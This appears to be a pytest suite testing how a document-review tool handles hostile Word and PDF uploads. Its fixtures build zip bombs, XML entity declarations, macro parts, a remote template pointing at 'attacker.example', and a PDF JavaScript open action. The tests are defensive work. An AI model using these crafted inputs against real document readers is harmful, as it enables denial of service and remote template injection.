"""Files from outside are hostile until proved otherwise."""

from __future__ import annotations

import io
import random
import re
import zipfile
from collections.abc import Iterator
from contextlib import suppress

import pikepdf
import pytest

from effort import at_most
from pressgen.errors import InputError
from pressgen.review import pdf_annotations, pdf_proposals
from pressgen.review.word_proposals import propose_from_word
from pressgen.review.word_reader import read_word_document
from review.copies import printed, samples
from review.dialects import DIALECTS, written
from review.editing import Editing
from review.marking import Marking
from validate.test_hostile import with_drawing

BODY = "word/document.xml"


@pytest.fixture(autouse=True)
def _bounded_effort() -> Iterator[None]:
    with at_most(100):
        yield


def refusal(data: bytes) -> str:
    with pytest.raises(InputError) as refused:
        read_word_document(data, "in.docx")
    (problem,) = refused.value.problems
    return str(problem)


def with_part(name: str, part: bytes, copy: bytes | None = None) -> bytes:
    """A review copy with one part another one."""
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(copy or samples()[0].content)) as old, zipfile.ZipFile(file, "w", 8) as new:
        for each in old.namelist():
            new.writestr(each, part if each == name else old.read(each))
        if name not in old.namelist():
            new.writestr(name, part)
    return file.getvalue()


def body(copy: bytes | None = None) -> bytes:
    with zipfile.ZipFile(io.BytesIO(copy or samples()[0].content)) as archive:
        return archive.read(BODY)


def test_a_file_with_a_password_is_named_as_one() -> None:
    assert "M02 has a password" in refusal(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000))


def test_what_is_no_zip_is_no_word_file() -> None:
    assert "W01 is not a .docx" in refusal(b"%PDF-1.7")


def test_a_zip_of_something_else_is_no_word_file() -> None:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("letter.txt", "Dear editor")

    assert "M01 is a zip file, not a Word document" in refusal(file.getvalue())


def test_a_bomb_is_not_unpacked() -> None:
    assert "W02 unpacks to more than 64 MB" in refusal(with_part("word/media/a.png", bytes(70 * 1024 * 1024)))


def test_a_document_type_is_refused() -> None:
    evil = body().replace(b"<w:document ", b'<!DOCTYPE w [<!ENTITY a "aaaa">]><w:document ', 1)

    assert "W02" in refusal(with_part(BODY, evil))


def test_a_hundred_thousand_changes_are_refused_at_once() -> None:
    many = b'<w:ins w:id="1" w:author="a"><w:r><w:t>x</w:t></w:r></w:ins>' * 100_000
    evil = body().replace(b"</w:p>", many + b"</w:p>", 1)

    assert "M03 has 100,000 tracked changes" in refusal(with_part(BODY, evil))


def test_text_nested_beyond_reason_is_refused() -> None:
    deep = b"<w:ins>" * 5000 + b"</w:ins>" * 5000

    assert "W02" in refusal(with_part(BODY, body().replace(b"</w:p>", deep + b"</w:p>", 1)))


def test_macros_are_told_and_not_read() -> None:
    assert read_word_document(with_part("word/vbaProject.bin", b"x"), "in.docx").notices == [
        "contains macros; they were not read"
    ]


def test_a_part_whose_controls_cross_a_change_is_mended_and_no_word_of_it_lost() -> None:
    copy = samples()[0]
    crossing = re.sub(
        rb'(w:name="_pg_\w+"/>)',
        rb'\1<w:sdt><w:sdtPr><w:tag w:val="x"/></w:sdtPr><w:sdtContent><w:ins w:id="5" w:author="Ann" w:date="">'
        rb"<w:r><w:t>New </w:t></w:r></w:sdtContent></w:sdt></w:ins>",
        body(),
        count=1,
    )

    file = read_word_document(with_part(BODY, crossing), "in.docx")

    assert "was damaged by the program that saved it and has been repaired" in file.notices[0]
    (found,) = propose_from_word(copy.blocks, file)
    assert (found.kind, found.after, found.author) == ("edit", "New ", "Ann")


def test_a_template_on_another_machine_is_told_and_not_fetched() -> None:
    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )

    (notice,) = read_word_document(with_part("word/_rels/settings.xml.rels", rels), "in.docx").notices

    assert notice == "names a template on another machine; it was not fetched"


@pytest.mark.parametrize("part", [BODY, "word/styles.xml", "[Content_Types].xml", "word/_rels/document.xml.rels"])
def test_a_part_that_breaks_off_is_refused_or_read_without_it(part: str) -> None:
    with zipfile.ZipFile(io.BytesIO(samples()[0].content)) as archive:
        whole = archive.read(part)

    damaged = with_part(part, whole[: len(whole) // 2])

    if part == BODY:
        assert re.search(r" [MW]\d\d ", refusal(damaged))
    else:
        with suppress(InputError):
            read_word_document(damaged, "in.docx")


def test_whatever_is_damaged_in_a_word_file_it_is_read_or_refused() -> None:
    chance = random.Random(7)  # noqa: S311 - the same damage each time
    verdicts = set()
    for number in range(40):
        copy = samples()[number % len(samples())]
        editing = Editing(copy.content, copy.blocks, chance)
        editing.work(6)
        content = written(editing, list(DIALECTS.values())[number % 7], chance)
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            name = chance.choice([BODY, *(each for each in archive.namelist() if "omments" in each)])
            part = bytearray(archive.read(name))
        if number % 2:
            values = list(re.finditer(rb'="[^"]*"', bytes(part)))
            start, end = chance.choice(values).span()
            part[start:end] = chance.choice([b'=""', b'="-1"', b'="99999999999999999999"', b'="x"'])
        else:
            part[chance.randrange(len(part))] = chance.randrange(256)
        try:
            propose_from_word(copy.blocks, read_word_document(with_part(name, bytes(part), content), "in.docx"))
            verdicts.add("read")
        except InputError:
            verdicts.add("refused")

    assert verdicts == {"read", "refused"}


def marked(*broken: object) -> bytes:
    """A PDF with marks some of whose entries are what they must not be."""
    one, chance = printed()[0], random.Random(3)  # noqa: S311 - as above
    data = Marking(one.content, one.found, "acrobat", chance).work(12)
    with pikepdf.open(io.BytesIO(data)) as file:
        marks = [each for page in file.pages for each in page.obj.get("/Annots", [])]
        for at, value in enumerate(broken):
            for key in ("/Rect", "/QuadPoints", "/CL", "/IRT", "/M", "/T", "/Contents", "/NM", "/Subtype"):
                marks[at % len(marks)][key] = value
        out = io.BytesIO()
        file.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "value",
    [
        5, pikepdf.Name.X, pikepdf.Array([1]), pikepdf.Array([pikepdf.Name.Y, 2, 3, 4]), pikepdf.Dictionary(),
        pikepdf.Array([1e30, -1e30, 9e29, 0]), pikepdf.Array([pikepdf.Array([1])] * 8), "words",
    ],
)  # fmt: skip
def test_a_mark_whose_entries_are_damaged_is_told_all_the_same(value: object) -> None:
    file = pdf_annotations.read_annotations(marked(value, value, value), "in.pdf")

    assert len(pdf_proposals.propose_from_pdf(printed()[0].blocks, file)) >= 9


def test_marks_that_answer_each_other_in_a_circle_are_told() -> None:
    with pikepdf.open(io.BytesIO(marked())) as file:
        one, other, *_ = (each for page in file.pages for each in page.obj.get("/Annots", []) if "/NM" in each)
        one["/IRT"], other["/IRT"] = other, one
        out = io.BytesIO()
        file.save(out)

    found = {each.name: each.answers for each in pdf_annotations.read_annotations(out.getvalue(), "in.pdf").marks}

    assert any(found.get(answers) == name for name, answers in found.items() if answers)


def test_a_pdf_that_breaks_off_anywhere_is_read_or_refused() -> None:
    whole, chance = marked(), random.Random(5)  # noqa: S311 - as above
    for _ in range(12):
        damaged = bytearray(whole[: chance.randrange(len(whole) // 2, len(whole))])
        damaged[chance.randrange(len(damaged))] = chance.randrange(256)
        with suppress(InputError):
            pdf_proposals.propose_from_pdf(
                printed()[0].blocks, pdf_annotations.read_annotations(bytes(damaged), "in.pdf")
            )


def test_marks_by_the_ten_thousand_are_refused_at_once() -> None:
    with pikepdf.open(io.BytesIO(printed()[0].content)) as file:
        file.pages[0].obj["/Annots"] = pikepdf.Array(
            [file.make_indirect(pikepdf.Dictionary(Subtype=pikepdf.Name.Highlight)) for _ in range(20_001)]
        )
        out = io.BytesIO()
        file.save(out)

    with pytest.raises(InputError, match="M03 has more than 20,000 marks"):
        pdf_annotations.read_annotations(out.getvalue(), "in.pdf")


def test_scripts_in_a_pdf_are_told_and_not_run() -> None:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(printed()[0].content)) as file:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        file.Root.OpenAction = script
        file.save(out)

    assert (
        "contains scripts or files; they were not opened"
        in pdf_annotations.read_annotations(out.getvalue(), "in.pdf").notices
    )


def test_a_pdf_whose_drawing_never_ends_is_refused() -> None:
    with pytest.raises(InputError) as refused:
        pdf_annotations.read_annotations(with_drawing(b"q Q " * 3 * 1024 * 1024), "in.pdf")

    assert "M03 is too large to be a release (the drawing on page 1); make a smaller file" in str(refused.value)
